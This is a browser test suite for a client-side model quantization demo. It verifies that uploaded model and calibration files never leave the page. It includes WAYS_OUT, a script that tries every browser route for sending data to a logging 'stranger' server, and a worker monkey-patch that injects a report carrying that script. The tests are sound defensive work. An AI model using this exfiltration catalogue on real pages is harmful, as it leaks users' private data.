import { readFile } from "node:fs/promises";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { whyNoChromium } from "../../support/chromium.ts";
import { PATIENCE, Site, SOON, WAYS, type Way } from "./browser-page.ts";

const DEMO = new URL("../../../examples/digits/", import.meta.url);
const missing = whyNoChromium();
const site = new Site();

/** Takes everything from everyone, and remembers what came. */
const came: string[] = [];
const stranger = createServer((request, response) => {
  came.push(`${request.method} ${request.url}`);
  response.writeHead(200, { "Access-Control-Allow-Origin": "*" }).end("ok");
});
/** A page without a policy. */
const careless = createServer((_, response) => {
  response.writeHead(200, { "Content-Type": "text/html" }).end("<!doctype html><body></body>");
});

const urlOf = (server: Server) => `http://127.0.0.1:${(server.address() as AddressInfo).port}/`;
const strangerUrl = () => urlOf(stranger);
const listening = (server: Server) => new Promise<void>((ready) => server.listen(0, "127.0.0.1", ready));

/** Every way out that a program has; each answers with what happened. */
const WAYS_OUT = `async (url) => {
  const tried = [];
  const attempt = async (name, work) => {
    try { await work(); tried.push(name); } catch {}
  };
  await attempt("fetch", () => fetch(url + "fetch", { method: "POST", body: "model", mode: "no-cors" }));
  await attempt("XMLHttpRequest", () => new Promise((done, failed) => {
    const request = new XMLHttpRequest();
    request.onload = done; request.onerror = failed;
    request.open("POST", url + "xhr"); request.send("model");
  }));
  await attempt("WebSocket", () => new Promise((done, failed) => {
    const socket = new WebSocket(url.replace("http", "ws"));
    socket.onopen = done; socket.onerror = failed;
  }));
  await attempt("import", () => import(url + "import.js"));
  if (typeof document === "object") {
    navigator.sendBeacon(url + "beacon", "model");
    for (const [tag, key] of [["img", "src"], ["script", "src"], ["iframe", "src"], ["video", "src"], ["object", "data"]]) {
      const element = document.createElement(tag);
      element[key] = url + tag; document.body.append(element);
    }
    const link = Object.assign(document.createElement("link"), { rel: "stylesheet", href: url + "link" });
    document.body.append(link);
  }
  await new Promise((done) => setTimeout(done, 500));
  if (typeof document === "object") {
    const form = Object.assign(document.createElement("form"), { action: url + "form", method: "POST" });
    document.body.append(form);
    // It leads away from the page, if it is let; so it comes last.
    form.submit();
    await new Promise((done) => setTimeout(done, 300));
  }
  return tried;
}`;

describe.skipIf(missing)(`nothing leaves the page${missing ? `: ${missing}` : ""}`, PATIENCE, () => {
  beforeAll(async () => {
    await Promise.all([listening(stranger), listening(careless)]);
    await site.open();
  });
  afterEach(() => site.leave());
  afterAll(async () => {
    await site.close();
    for (const server of [stranger, careless]) server.close();
  });

  it.each(Object.keys(WAYS) as Way[])(
    "loads its own files and sends nothing during a whole job, %s",
    async (way) => {
      const { page, requests, url } = await site.visit(way);
      const file = async (name: string, as: string) => ({
        name: as,
        mimeType: "",
        buffer: await readFile(new URL(name, DEMO)),
      });
      const inputs = page.locator("input[type=file]");
      await inputs.nth(0).setInputFiles(await file("digits.onnx", "secret-model.onnx"));
      await inputs.nth(1).setInputFiles(await file("calibration.npy", "secret-data.npy"));
      await page.getByRole("button", { name: "Quantize" }).click();
      await page.locator(".verdict").waitFor();
      await page.getByRole("button", { name: /Compare on/ }).click();
      await page.locator("caption").waitFor();

      const http = requests.filter((request) => !request.url().startsWith("blob:"));
      expect(http.length).toBeGreaterThan(5);
      for (const request of http) {
        const { origin, search, pathname } = new URL(request.url());
        expect({ method: request.method(), body: request.postData(), origin, search }).toEqual({
          method: "GET",
          body: null,
          origin: new URL(url).origin,
          search: "",
        });
        expect(pathname).not.toContain("secret");
      }
      const names = new Set(http.map((request) => new URL(request.url()).pathname.replace(/^.*\//, "")));
      expect([...names]).toEqual(expect.arrayContaining(["worker.js", "kernels.simd.wasm"]));
    },
  );

  it("has a stranger that hears what is sent without a policy", async () => {
    const { page } = await site.visit("not isolated");
    await page.goto(urlOf(careless));
    await page.evaluate(`(${WAYS_OUT})(${JSON.stringify(strangerUrl())})`).catch(() => undefined);
    const heard = [
      "POST /fetch",
      "POST /xhr",
      "POST /beacon",
      "GET /img",
      "GET /script",
      "GET /link",
      "POST /form",
    ];
    await expect.poll(() => came, SOON).toEqual(expect.arrayContaining(heard));
    came.length = 0;
  });

  it.each(Object.keys(WAYS) as Way[])(
    "can't reach another origin from the page or its worker, %s",
    async (way) => {
      const { page } = await site.visit(way);
      await page.locator("#option-chip").waitFor();
      const worker = page.workers().find((one) => one.url().startsWith("blob:"))!;
      expect(await worker.evaluate(`(${WAYS_OUT})(${JSON.stringify(strangerUrl())})`)).toEqual([]);
      expect(await page.evaluate(`(${WAYS_OUT})(${JSON.stringify(strangerUrl())})`)).toEqual([]);
      expect(came).toEqual([]);
    },
  );

  it("shows a report with its own styles and scripts where they reach nothing", async () => {
    // A report that tries what it can, instead of the one that the worker answers with.
    const script = `{
      const report = \`<style>h1 { color: rgb(1, 2, 3) }</style><h1>report</h1><p></p><script>
        (${WAYS_OUT})("${strangerUrl()}").then((tried) => {
          document.querySelector("p").textContent = "got out by: " + tried + "; " + getComputedStyle(document.querySelector("h1")).color;
        });
      <\\/script>\`;
      const { addEventListener } = Worker.prototype;
      Worker.prototype.addEventListener = function (type, listener, ...rest) {
        addEventListener.call(this, type, (event) => {
          const written = event.data?.value?.value?.files?.find(({ name }) => name.endsWith("_report.html"));
          if (written) written.bytes = new TextEncoder().encode(report);
          (listener.handleEvent ?? listener).call(this, event);
        }, ...rest);
      };
    }`;
    const { page } = await site.visit("isolated", "", { script });
    await page.getByRole("button", { name: "Try the demo" }).click();
    const frame = page.frameLocator("iframe");
    await frame.getByRole("heading", { name: "report" }).waitFor();
    await frame.getByText("got out by: ; rgb(1, 2, 3)").waitFor();
    expect(came).toEqual([]);
    expect(await page.locator("iframe").getAttribute("sandbox")).toBe("allow-scripts allow-downloads");
  });
});
